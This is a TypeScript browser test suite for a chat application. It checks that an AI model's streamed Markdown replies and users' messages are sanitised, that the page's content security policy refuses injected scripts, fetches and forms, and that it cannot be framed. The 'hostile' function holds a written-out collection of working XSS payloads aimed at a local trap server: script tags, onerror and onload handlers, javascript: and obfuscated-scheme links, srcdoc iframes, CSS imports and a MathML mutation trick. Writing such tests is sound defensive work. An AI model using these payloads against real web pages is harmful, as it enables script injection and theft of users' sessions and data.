import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { createAccount, openBrowser } from '../harness/browser.js';
import { register } from '../harness/person.js';
import { until } from './harness/settle.js';
import { startWorld, type World } from './harness/world.js';

let world: World;
let trap: Server;
/** Every request that reached the trap. */
const sprung: string[] = [];

beforeAll(async () => {
  trap = createServer((request, response) => {
    sprung.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('window.__ran = "fetched"');
  });
  trap.listen(0, '127.0.0.1');
  await once(trap, 'listening');
  // Publish each piece of the model's answer as a delta of its own.
  world = await startWorld({ name: '24 hostile Markdown', apis: 1, workers: 1, variables: { REPLY_WINDOW_MS: '0', HUB_WINDOW_MS: '1' } });
});
afterEach(() => world?.restore());
afterAll(async () => {
  await world?.[Symbol.asyncDispose]();
  trap?.close();
});

/** Markup that runs or fetches something if anything lets it, between words that show that it was rendered. */
function hostile(): string {
  const evil = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  return [
    'It begins here.',
    '<script>window.__ran = "script"</script>',
    `<script src="${evil}/script.js"></script>`,
    `<img src="${evil}/img.png" onerror="window.__ran = 'onerror'">`,
    `![image](${evil}/markdown.png "title")`,
    `![reference][r] and <${evil}/autolink>`,
    `[r]: ${evil}/reference.png`,
    `<svg onload="window.__ran = 'svg'"><image href="${evil}/svg.png"/></svg>`,
    `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.__ran = 'srcdoc'</script>"></iframe>`,
    `<style>@import url(${evil}/style.css); body { background: url(${evil}/background.png) }</style>`,
    `<link rel="stylesheet" href="${evil}/link.css"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">`,
    `<p style="background:url(${evil}/inline.png)">styled</p><video autoplay src="${evil}/video"></video><object data="${evil}/object"></object>`,
    `[one](javascript:window.__ran='link') [two](JaVaScRiPt&colon;window.__ran='entity') [three](data:text/html,<script>window.__ran='data'</script>) [four](vbscript:x)`,
    '[five](\u0001javascript:window.__ran=1) [six](//127.0.0.1/relative) <a href="javascript:window.__ran=1" onclick="window.__ran=1">seven</a>',
    '| a | <img src=x onerror=window.__ran=1> |\n|---|---|\n| `<b>` | **<details open ontoggle=window.__ran=1>** |',
    '```html\n<script>window.__ran = "fence"</script>\n```',
    '$$\\href{javascript:window.__ran=1}{math}$$ <math><mtext></mtext><mglyph><style><img src=x onerror=window.__ran=1></style></mglyph></math>',
    'It ends here.',
  ].join('\n\n');
}

test('script and remote content in Markdown, split across deltas at every offset: nothing runs, nothing is fetched', async () => {
  const [api] = world.apis;
  const text = hostile();
  await using reader = await openBrowser();
  const { page } = reader;
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(api!.url) && !/^(data|blob):/.test(request.url())) foreign.push(request.url());
  });
  await createAccount(page, api!.url, 'reader');
  await page.getByRole('navigation', { name: 'Rooms' }).getByText('Lobby').click();
  const log = page.getByRole('log', { name: 'Messages' });

  await using sender = await register(api!.url, 'sender');
  const joined = await sender.http.rooms.list.query();
  const roomId = joined.find(({ room }) => room.name === 'Lobby')!.room.id;
  // One character at a time, so that the page renders the text as cut at every offset.
  let rendered = 0;
  world.model.script(() => ({
    steps: (async function* () {
      for (const character of text) {
        yield character;
        yield { waitMs: 2 };
        rendered++;
      }
    })(),
  }));
  const { replies } = await sender.http.messages.send.mutate({ roomId, clientId: crypto.randomUUID(), content: '@ada say it' });
  await log.getByText('It begins here.').waitFor();
  await log.getByText('It ends here.').waitFor();
  await until('the reply has ended', async () => {
    const [row] = await world.database.db.$queryRawUnsafe<{ status: string; content: string }[]>(
      'select status, content from messages where id = $1::uuid',
      replies[0]!.id,
    );
    return row!.status === 'complete' && row!.content === text;
  });
  expect(rendered).toBe([...text].length);

  // A person sends the same text, and then all of it is read again as history.
  await sender.http.messages.send.mutate({
    roomId,
    clientId: crypto.randomUUID(),
    content: text.replace('It ends here.', 'It ends there.'),
  });
  await log.getByText('It ends there.').waitFor();
  await page.reload();
  await log.getByText('It ends here.').waitFor();
  await log.getByText('It ends there.').waitFor();

  expect(await page.evaluate('window.__ran')).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  expect(sprung).toEqual([]);
  for (const tag of ['script', 'iframe', 'object', 'embed', 'video', 'link', 'meta', 'base', 'style', 'form'])
    expect([tag, await log.locator(tag).count()]).toEqual([tag, 0]);
  const hrefs = await log.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:|\/(?!\/)|#|$)/i);
  const handlers = await log.locator('*').evaluateAll((elements) =>
    elements.flatMap((element) =>
      element
        .getAttributeNames()
        .filter((name) => name.startsWith('on'))
        .map((name) => `${element.tagName} ${name}`),
    ),
  );
  expect(handlers).toEqual([]);
  const sources = await log.locator('img').evaluateAll((images) => images.map((image) => image.getAttribute('src') ?? ''));
  expect(sources.filter((source) => !source.startsWith('data:'))).toEqual([]);

  // The same text as plain HTML does run and fetch; otherwise this test would prove nothing.
  const victim = await reader.context.newPage();
  // Without the part that would take this page elsewhere.
  await victim.setContent(text.replaceAll(/<meta[^>]*>/g, ''));
  await until('it runs and fetches', async () => sprung.length > 0 && (await victim.evaluate('window.__ran')) !== undefined);
});

test('a text that no page could lay out harms no page: those before and after it are read as ever', async () => {
  const [api] = world.apis;
  await using reader = await openBrowser();
  const { page, errors } = reader;
  await createAccount(page, api!.url, 'patient');
  // Drop earlier errors: before the sign-in, the page is told that nobody is signed in.
  errors.length = 0;
  await page.getByRole('navigation', { name: 'Rooms' }).getByText('Lobby').click();
  const log = page.getByRole('log', { name: 'Messages' });
  await using sender = await register(api!.url, 'piler');
  const joined = await sender.http.rooms.list.query();
  const roomId = joined.find(({ room }) => room.name === 'Lobby')!.room.id;
  const say = (content: string) => sender.http.messages.send.mutate({ roomId, clientId: crypto.randomUUID(), content });
  for (const [name, source] of [
    ['quotes', '>'.repeat(30_000)],
    ['lists', '- '.repeat(15_000)],
    ['cells', `${'a|'.repeat(3_000)}\n${'-|'.repeat(3_000)}\n${'b\n'.repeat(8_000)}`],
    ['marks', '*_'.repeat(15_000)],
  ] as const) {
    await say(`${source} the ${name} end here`);
    await say(`after the ${name}`);
    await log.getByText(`after the ${name}`).waitFor();
  }
  await page.reload();
  await log.getByText('after the marks').waitFor();
  expect(errors).toEqual([]);
});

test('even what got into the page as HTML neither runs nor fetches, by the page’s own policy', async () => {
  const url = world.apis[0]!.url;
  const evil = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  await using reader = await openBrowser();
  const { page } = reader;
  sprung.length = 0;
  await page.goto(url);
  await page.getByLabel('Username').waitFor();
  const refused = await page.evaluate(
    async ({ evil, html }) => {
      const directives = new Set<string>();
      document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
      const script = (set: (element: HTMLScriptElement) => void) => {
        const element = document.createElement('script');
        set(element);
        document.body.append(element);
      };
      script((element) => (element.textContent = 'window.__ran = "inline"'));
      script((element) => (element.src = `${evil}/script.js`));
      script((element) => (element.src = 'data:text/javascript,window.__ran="data"'));
      const place = document.createElement('div');
      place.innerHTML = html;
      document.body.append(place);
      for (const link of place.querySelectorAll('a')) link.click();
      const form = document.createElement('form');
      form.action = `${evil}/form`;
      document.body.append(form);
      const formRefused = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => event.effectiveDirective === 'form-action' && resolve()),
      );
      form.submit();
      await formRefused;
      const failed: string[] = [];
      await fetch(`${evil}/fetch`).catch(() => failed.push('fetch'));
      await new Promise<void>((resolve) => {
        const image = new Image();
        image.addEventListener('load', () => resolve());
        image.addEventListener('error', () => (failed.push('image'), resolve()));
        image.src = `${evil}/image.png`;
      });
      await new Promise<void>((resolve) => {
        const socket = new WebSocket(`${evil.replace('http', 'ws')}/socket`);
        socket.addEventListener('error', () => (failed.push('socket'), resolve()));
        socket.addEventListener('open', () => resolve());
      });
      return { failed, directives: [...directives].sort(), base: document.baseURI };
    },
    { evil, html: hostile().replaceAll(/<meta[^>]*>/g, '') },
  );
  expect(await page.evaluate('window.__ran')).toBeUndefined();
  expect(sprung).toEqual([]);
  expect(refused.failed).toEqual(['fetch', 'image', 'socket']);
  expect(refused.directives).toEqual(
    expect.arrayContaining([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]),
  );
  expect(refused.base).toMatch(url);

  // Nobody can put the page into a frame, to have people click in it unawares.
  const frame = await reader.context.newPage();
  const shown = frame.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await frame.setContent(`<iframe src="${url}"></iframe>`);
  await shown;
  expect(await frame.frames()[1]!.locator('#root').count()).toBe(0);
});
